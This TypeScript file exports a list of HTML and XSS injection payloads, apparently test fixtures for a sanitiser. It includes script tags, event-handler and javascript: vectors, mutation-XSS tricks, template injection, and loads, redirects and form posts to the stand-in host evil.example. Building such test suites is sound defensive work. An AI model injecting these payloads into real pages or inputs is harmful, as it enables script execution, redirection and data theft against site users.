/** Payloads that act where somebody makes HTML of a text. Each calls `alert`, loads from `evil.example`, or leaves the page. */
export const html: string[] = [
  '<script>alert(1)</script>', '<ScRiPt>alert(1)</sCrIpT>', '<script src=https://evil.example/x.js></script>', '"><script>alert(1)</script>', '\'><script>alert(1)</script>', '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>', '<img src=https://evil.example/p.png>', '<img/src="x"/onerror=alert(1)>', '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext></p><img src=x onerror=alert(1)></math>', '<iframe src=javascript:alert(1)></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<object data=javascript:alert(1)>', '<embed src=https://evil.example/x.swf>',
  '<a href="javascript:alert(1)">x</a>', '<a href=https://evil.example ping=https://evil.example/p>x</a>', '<form action=https://evil.example><button>x</button></form>', '<input autofocus onfocus=alert(1)>', '<select onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>', '<marquee onstart=alert(1)>', '<body onload=alert(1)>', '<base href=https://evil.example/>', '<meta http-equiv=refresh content="0;url=https://evil.example">', '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import "https://evil.example/x.css";</style>', '<div style="background:url(https://evil.example/p.png)">x</div>', '<video><source onerror=alert(1)></video>', '<audio src=x onerror=alert(1)>', '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<!--><img src=x onerror=alert(1)>-->', '<![CDATA[<img src=x onerror=alert(1)>]]>', '<x onclick=alert(1)>x</x>', '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}', '<plaintext>', '<textarea><img src=x onerror=alert(1)>', '<title><script>alert(1)</script>', 'javascript:alert(1)', '` onmouseover=alert(1) `'
]
